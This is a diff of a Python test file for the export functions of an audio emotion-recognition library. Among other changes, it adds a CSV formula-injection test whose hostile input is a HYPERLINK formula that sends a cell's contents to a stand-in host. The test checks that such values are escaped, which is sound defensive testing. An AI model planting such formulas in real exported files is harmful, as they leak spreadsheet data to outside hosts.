@@ -15,11 +15,11 @@ from hypothesis import given
 from hypothesis import strategies as st
 from praatio import textgrid
 
-from affetto import Failure, ModelName, ParameterError, Recognition, Recognizer, Segment
+from affetto import Explanation, Failure, ModelName, ParameterError, Recognition, Recognizer, Segment
 from affetto.cli.output import OutputFormat
 from affetto.exports import FORMATS, find_format, write
-from affetto.exports.text import caption, one_line
-from affetto.recognition.result import Status
+from affetto.exports.text import caption, emotion_name
+from affetto.recognition.result import AdaptedTo, Status
 
 SINGLE = sorted(name for name, known in FORMATS.items() if not known.holds_several)
 EXAMPLE = Path(__file__).parents[2] / "examples" / "sad.flac"
@@ -50,7 +50,10 @@ def recognitions(draw: st.DrawFn) -> Recognition:
         segments.append(Segment(start / 1_000, end / 1_000, status, label, confidence, probabilities))
     duration_s = max(edges, default=0) / 1_000 + draw(st.sampled_from([0.2, 0.0])) or 0.2
     source = draw(st.text(min_size=1))
-    return Recognition(source, duration_s, "ok", None, None, {}, tuple(segments), ModelName("default", "1"))
+    return Recognition(
+        *(source, duration_s, "ok", None, None, {}, tuple(segments), ModelName("default", "1")),
+        adapted_to=draw(st.sampled_from([None, *get_args(AdaptedTo)])),
+    )
 
 
 def captions(recognition: Recognition, *, decimals: int) -> list[tuple[float, float, str]]:
@@ -115,13 +118,27 @@ def test_tables_are_read_back(recognition: Recognition) -> None:
     assert lines.pop() == ""
     by_line = [json.loads(line) for line in lines]
     if recognition.segments:
-        assert by_line == [
-            {"source": recognition.source, "channel": None} | s for s in recognition.to_dict()["segments"]
-        ]
+        whole = {"source": recognition.source, "channel": None, "adapted_to": recognition.adapted_to}
+        assert by_line == [whole | s for s in recognition.to_dict()["segments"]]
     by_row = list(csv.DictReader(io.StringIO(text_of(recognition, "csv"), newline="")))
-    assert [row["source"] for row in by_row] == [row["source"] for row in by_line]
     assert [float(row["start_s"]) for row in by_row] == [row["start_s"] for row in by_line]
-    assert [row["emotion"] for row in by_row] == [row["emotion"] or "" for row in by_line]
+    for row, line in zip(by_row, by_line, strict=True):
+        assert (row["status"], row["adapted_to"]) == (line["status"], recognition.adapted_to or "")
+        for key in ("source", "emotion"):
+            text = line[key] or ""
+            # What would be a formula is marked as text.
+            assert row[key] == (f"'{text}" if text[:1] in tuple("=+-@\t\r") else text)
+
+
+def test_no_cell_of_csv_is_a_formula(dialogue: Recognition, tmp_path: Path) -> None:
+    name = '=HYPERLINK("http://example.org/?"&A2,"call")'
+    quiet = dataclasses.replace(dialogue.segments[0], emotion="-1", explanation=Explanation(loudness_dbfs=-20.5))
+    hostile = dataclasses.replace(dialogue, source=name, segments=(quiet,))
+    write([hostile, Failure("+1.wav", "+1.wav is empty")], tmp_path / "a.csv", labels=("@label",))
+    first, second = csv.DictReader((tmp_path / "a.csv").open(encoding="utf-8", newline=""))
+    assert (first["source"], first["emotion"], first["'@label"]) == (f"'{name}", "'-1", "")
+    assert float(first["loudness_dbfs"]) == -20.5
+    assert (second["source"], second["error"]) == ("'+1.wav", "'+1.wav is empty")
 
 
 def test_what_a_subtitle_looks_like(dialogue: Recognition) -> None:
@@ -140,19 +157,8 @@ def test_csv_has_a_column_for_each_label_and_an_error_for_each_failure(dialogue:
     write([dialogue, Failure("bad.wav", "bad.wav is empty")], tmp_path / "a.csv")
     rows = list(csv.DictReader((tmp_path / "a.csv").open(encoding="utf-8", newline="")))
     assert list(rows[0]) == [
-        *(
-            "source",
-            "channel",
-            "start_s",
-            "end_s",
-            "status",
-            "emotion",
-            "confidence",
-            "neutral",
-            "happy",
-            "angry",
-            "error",
-        )
+        *("source", "channel", "start_s", "end_s", "status", "emotion", "confidence", "adapted_to"),
+        *("neutral", "happy", "angry", "error"),
     ]
     assert [row["status"] for row in rows] == ["ok", "ok", "no_speech", "ok", "uncertain", "error"]
     assert rows[0]["angry"] == rows[0]["confidence"] == "0.8"
@@ -179,6 +185,14 @@ def test_silence_gives_a_valid_file(name: str, silence: Recognition, tmp_path: P
             assert [tuple(i) for i in read_grid(path).getTier("emotion").entries] == [(0, 3, "")]
         case _:
             assert text == ""
+
+
+@pytest.mark.parametrize("name", FORMATS)
+def test_no_sound_gives_a_valid_file_too(name: str, nothing: Recognition, tmp_path: Path) -> None:
+    path = tmp_path / f"a{FORMATS[name].ending}"
+    write(nothing, path)
+    if name == "textgrid":
+        assert [interval.label for interval in read_grid(path).getTier("emotion").entries] == [""]
 
 
 @pytest.mark.parametrize("name", FORMATS)
@@ -244,7 +258,7 @@ def test_a_real_recording_in_every_format(tmp_path: Path) -> None:
     assert [c.raw_text for c in webvtt.read(str(tmp_path / "sad.vtt")).captions] == [caption(s) for s in heard]
     assert [c.raw_text for c in webvtt.from_srt(str(tmp_path / "sad.srt")).captions] == [caption(s) for s in heard]
     labels = [i.label for i in read_grid(tmp_path / "sad.TextGrid").getTier("emotion").entries]
-    assert [label for label in labels if label] == [one_line(str(s.emotion)) for s in heard]
+    assert [label for label in labels if label] == [emotion_name(s) for s in heard]
     rows = list(csv.DictReader((tmp_path / "sad.csv").open(encoding="utf-8")))
     spoken = [row for row in rows if row["emotion"]]
     assert [float(row[row["emotion"]]) for row in spoken] == [s.confidence for s in heard]
